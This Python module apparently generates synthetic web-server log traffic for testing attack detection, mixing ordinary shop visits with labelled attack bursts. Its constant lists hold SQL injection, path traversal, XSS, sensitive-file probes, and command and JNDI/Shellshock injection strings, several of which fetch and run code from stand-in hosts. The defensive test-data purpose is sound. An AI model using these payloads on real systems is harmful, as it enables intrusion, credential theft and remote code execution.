"""What the generated traffic is made of: browsers, pages, search words, and the attacks hidden among them."""

import random
from collections.abc import Callable, Sequence
from urllib.parse import quote_plus

from core.taxonomy import AttackType

WORDS = (
    "shoes red blue laptop garden select union table drop kids winter camera größe naïve 靴 кроссовки phone case cheap "
    "best order by group having chair desk lamp admin guide script writing alert system file path etc"
).split()
CATEGORIES = "men women kids home garden toys electronics sale new".split()
PLACEMENTS = ("google", "newsletter", "fb")
STATUS_CODES = [200] * 80 + [304] * 8 + [301] * 3 + [302] * 3 + [404] * 4 + [499, 500]

SCANNER_AGENTS = (
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.0.0",
    "WPScan v3.8.24 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
)
SQL = (
    "1%27%20OR%20%271%27=%271",
    "1+UNION+SELECT+NULL,NULL,version()--+-",
    "-1%20union%20all%20select%201,2,concat(user(),0x3a,password),4%20from%20users--",
    "1%2527%2520OR%25201%253D1--",
    "1;WAITFOR%20DELAY%20%270:0:5%27--",
    "1%20AND%20SLEEP(5)",
    (
        "1'%20AND%20(SELECT%201%20FROM(SELECT%20COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x"
        "%20FROM%20information_schema.tables%20GROUP%20BY%20x)a)--"
    ),
    "1)%20AND%20BENCHMARK(5000000,MD5(1))",
    "%27;DROP%20TABLE%20users;--",
    "1/**/UNION/**/SELECT/**/1,2,3",
)
TRAVERSAL = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "..%252f..%252f..%252fetc%252fpasswd",
    "....//....//etc/passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "/proc/self/environ",
    "..%c0%af..%c0%afetc/passwd",
)
PROBES = (
    "/.env /.env.production /.git/config /.git/HEAD /.aws/credentials /wp-config.php.bak /phpinfo.php "
    "/phpmyadmin/index.php /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /actuator/env /server-status /.DS_Store "
    "/config.json /backup.sql /cgi-bin/luci/;stok=/locale /solr/admin/info/system?wt=json "
    "/boaform/admin/formLogin?username=admin&psd=admin /HNAP1/ /manager/html /.svn/entries /owa/auth/logon.aspx "
    "/xmlrpc.php"
).split()
SCRIPTS = (
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
    "javascript:alert(1)",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "<svg/onload=alert(1)>",
)
COMMANDS = (
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://10.0.0.1/jaws;sh+/tmp/jaws",
    "/api?cmd=%24%28curl%20http%3A%2F%2Fevil.example%2Fx%7Csh%29",
    "/?x=php://filter/convert.base64-encode/resource=index.php",
    "/x.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{'id'})).start()}",
)
AGENT_INJECTIONS = (
    "${jndi:ldap://198.51.100.7:1389/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/x}",
    "() { :; }; /bin/bash -c 'curl http://198.51.100.9/x'",
)


def digits(rng: random.Random, count: int) -> str:
    """Lower-case hex digits, as in asset names and session ids."""
    return "".join(rng.choices("0123456789abcdef", k=count))


def address_v4(rng: random.Random) -> str:
    """An IPv4 address."""
    return f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def address_v6(rng: random.Random) -> str:
    """An IPv6 address, half of them with a compressed run of zeros."""
    if rng.random() < 0.5:
        return "2001:db8:{:x}:{:x}::{:x}".format(*(rng.getrandbits(16) for _ in range(3)))
    return ":".join(["2a02", *(f"{rng.getrandbits(16):x}" for _ in range(7))])


def agent(rng: random.Random) -> str:
    """A browser, crawler or library; 1.5 % hold escaped quotes, escaped bytes or raw UTF-8."""
    share = rng.random()
    major = rng.randint(96, 131)
    if share < 0.4:
        return (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            f"Chrome/{major}.0.{rng.randint(0, 9999)}.{rng.randint(0, 200)} Safari/537.36"
        )
    if share < 0.6:
        return (
            f"Mozilla/5.0 (iPhone; CPU iPhone OS {rng.randint(14, 18)}_{rng.randint(0, 6)} like Mac OS X) "
            f"AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{rng.randint(14, 18)}.{rng.randint(0, 5)} "
            "Mobile/15E148 Safari/604.1"
        )
    if share < 0.75:
        return (
            f"Mozilla/5.0 (Linux; Android {rng.randint(9, 15)}; SM-G{rng.randint(900, 999)}B) AppleWebKit/537.36 "
            f"(KHTML, like Gecko) Chrome/{major}.0.0.0 Mobile Safari/537.36"
        )
    rest: tuple[tuple[float, str], ...] = (
        (0.87, f"Mozilla/5.0 (X11; Linux x86_64; rv:{major}.0) Gecko/20100101 Firefox/{major}.0"),
        (0.92, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        (0.95, "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
        (0.97, f"python-requests/2.{rng.randint(20, 32)}.{rng.randint(0, 3)}"),
        (0.98, f"curl/8.{rng.randint(0, 9)}.1"),
        (0.985, "Mozilla/5.0 (Windows NT 10.0) Büro-Browser/1.0 (größe=\\xC3\\xA4)"),
        (0.99, "Weird\\x22Agent\\x22/1.0 (quote escaped by nginx)"),
        (0.995, 'Apache\\"style\\" agent \\\\ backslash/2'),
        (1.0, "-"),
    )
    return next(text for limit, text in rest if share < limit)


def assets(rng: random.Random) -> tuple[str, ...]:
    """Static files, among them two whose names look like attacks and are none."""
    scripts = [f"/static/js/{name}.{digits(rng, 8)}.js" for name in "app vendor runtime main chunk-1 checkout".split()]
    styles = [f"/static/css/{name}.{digits(rng, 8)}.css" for name in "app theme print".split()]
    pictures = [f"/img/products/{number}_{size}.webp" for number in range(1000, 3000) for size in "sm"]
    plain = ["/favicon.ico", "/robots.txt", "/sitemap.xml", "/fonts/inter.woff2"]
    lookalikes = ["/union-select-tables/overview.html", "/docs/etc/passwd-manager.html"]
    return (*scripts, *styles, *pictures, *plain, *lookalikes)


def posts(rng: random.Random) -> tuple[str, ...]:
    """Blog posts."""
    plain = [word for word in WORDS if word.isascii()]
    return tuple(
        f"/blog/20{rng.randint(18, 26)}/{rng.randint(1, 12):02d}/{'-'.join(rng.choices(plain, k=5))}"
        for _ in range(600)
    )


def referrers(rng: random.Random) -> tuple[str, ...]:
    """Where visitors come from; mostly nowhere."""
    shop = [f"https://shop.example.com/product/{rng.randint(1000, 9999)}" for _ in range(30)]
    outside = ["https://www.google.com/", "https://t.co/" + digits(rng, 10), "https://www.bing.com/search?q=red+shoes"]
    return (*["-"] * 4, *outside, "https://shop.example.com/", "https://shop.example.com/category/sale", *shop)


def request(rng: random.Random, files: Sequence[str], articles: Sequence[str]) -> tuple[str, str]:
    """(method, target) of an honest visitor."""
    share = rng.random()
    if share < 0.42:
        return "GET", rng.choice(files)
    if share < 0.57:
        return "GET", f"/product/{rng.randint(1000, 9999)}/{rng.choice(CATEGORIES)}-{digits(rng, 6)}"
    if share < 0.65:
        return "GET", rng.choice(articles)
    if share < 0.72:
        words = quote_plus(" ".join(rng.choices(WORDS, k=rng.randint(1, 4))))
        return "GET", f"/search?q={words}&page={rng.randint(1, 9)}&sort=price_{rng.choice(('asc', 'desc'))}"
    if share < 0.82:
        ids = ",".join(str(rng.randint(1, 99999)) for _ in range(rng.randint(1, 6)))
        kind = rng.choice(("items", "cart", "user", "prices"))
        return "GET", f"/api/v1/{kind}?ids={ids}&lang={rng.choice(('en', 'de', 'fr', 'ja'))}&sid={digits(rng, 24)}"
    if share < 0.88:
        return "POST", f"/api/v1/{rng.choice(('events', 'cart/add', 'login', 'checkout'))}"
    if share < 0.93:
        campaign = f"utm_medium=cpc&utm_campaign={digits(rng, 10)}&gclid={digits(rng, 40)}"
        return "GET", f"/category/{rng.choice(CATEGORIES)}?utm_source={rng.choice(PLACEMENTS)}&{campaign}"
    if share < 0.97:
        return "GET", "/"
    back = f"%2Fcategory%2F{rng.choice(CATEGORIES)}%3Fa%3D{rng.randint(1, 9)}"
    return rng.choice(("HEAD", "OPTIONS", "GET")), f"/account/{rng.choice(('orders', 'settings'))}?next={back}"


Shot = tuple[AttackType, str, str, int, str, str]
"""(type, method, target, status, referrer, user agent) of one line of an attack."""


def _sql(rng: random.Random, browser: str) -> list[Shot]:
    tool = rng.choice((SCANNER_AGENTS[0], browser))
    page = rng.choice(("/product.php?id=", "/search?q=", "/api/v1/items?ids="))
    return [
        (AttackType.SQL_INJECTION, "GET", page + rng.choice(SQL), rng.choice((200, 403, 500)), "-", tool)
        for _ in range(rng.randint(3, 25))
    ]


def _traversal(rng: random.Random, browser: str) -> list[Shot]:
    page = rng.choice(("/download?file=", "/static/", "/index.php?page="))
    status = (400, 403, 404, 200)
    return [
        (AttackType.PATH_TRAVERSAL, "GET", page + rng.choice(TRAVERSAL), rng.choice(status), "-", browser)
        for _ in range(rng.randint(2, 15))
    ]


def _probe(rng: random.Random, browser: str) -> list[Shot]:
    tool = rng.choice((*SCANNER_AGENTS, browser))
    paths = rng.sample(PROBES, rng.randint(3, len(PROBES)))
    return [(AttackType.SENSITIVE_FILE_PROBE, "GET", path, 404, "-", tool) for path in paths]


def _guess(rng: random.Random, browser: str) -> list[Shot]:
    page = "https://shop.example.com/wp-login.php"
    shot: Shot = (AttackType.BRUTE_FORCE, "POST", "/wp-login.php", 200, page, browser)
    return [shot] * rng.randint(20, 120)


def _scan(rng: random.Random, _: str) -> list[Shot]:
    tool = rng.choice(SCANNER_AGENTS)
    endings = (".php", ".asp", "/", ".bak")
    return [
        (AttackType.VULNERABILITY_SCAN, "GET", f"/{digits(rng, 8)}{rng.choice(endings)}", 404, "-", tool)
        for _ in range(rng.randint(10, 60))
    ]


def _script(rng: random.Random, browser: str) -> list[Shot]:
    return [
        (AttackType.XSS, "GET", "/search?q=" + rng.choice(SCRIPTS), rng.choice((200, 403)), "-", browser)
        for _ in range(rng.randint(2, 10))
    ]


def _command(rng: random.Random, browser: str) -> list[Shot]:
    return [
        (AttackType.COMMAND_INJECTION, "GET", rng.choice(COMMANDS), rng.choice((404, 403, 200)), "-", browser)
        for _ in range(rng.randint(1, 6))
    ]


def _agent(rng: random.Random, _: str) -> list[Shot]:
    return [
        (AttackType.CODE_INJECTION, "GET", "/", 200, "-", rng.choice(AGENT_INJECTIONS))
        for _ in range(rng.randint(1, 4))
    ]


ATTACKS: tuple[tuple[float, Callable[[random.Random, str], list[Shot]]], ...] = (
    (0.22, _sql),
    (0.38, _traversal),
    (0.58, _probe),
    (0.74, _guess),
    (0.83, _scan),
    (0.90, _script),
    (0.96, _command),
    (1.0, _agent),
)
"""Cumulative shares; each makes the lines of one burst of one attacker."""


def attack(rng: random.Random, browser: str) -> list[Shot]:
    """The lines of one attacker, to be shot one by one among honest traffic."""
    share = rng.random()
    return next(make for limit, make in ATTACKS if share < limit)(rng, browser)
